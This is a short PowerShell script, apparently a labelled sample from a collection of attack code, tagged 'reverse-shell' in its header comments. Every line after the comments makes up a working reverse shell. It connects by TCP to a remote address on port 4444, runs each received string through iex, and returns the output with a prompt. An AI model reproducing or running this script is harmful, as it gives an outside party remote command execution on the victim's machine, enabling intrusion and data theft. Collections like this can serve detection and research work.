# description: Runs a PowerShell TCPClient loop that executes commands received from a remote host.
# family: reverse-shell
$client = New-Object System.Net.Sockets.TCPClient('203.0.113.10', 4444)
$stream = $client.GetStream()
[byte[]]$bytes = 0..65535 | ForEach-Object { 0 }
while (($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0) {
    $data = (New-Object System.Text.ASCIIEncoding).GetString($bytes, 0, $i)
    $out = (iex $data 2>&1 | Out-String)
    $reply = $out + 'PS ' + (Get-Location).Path + '> '
    $send = ([Text.Encoding]::ASCII).GetBytes($reply)
    $stream.Write($send, 0, $send.Length)
    $stream.Flush()
}
$client.Close()
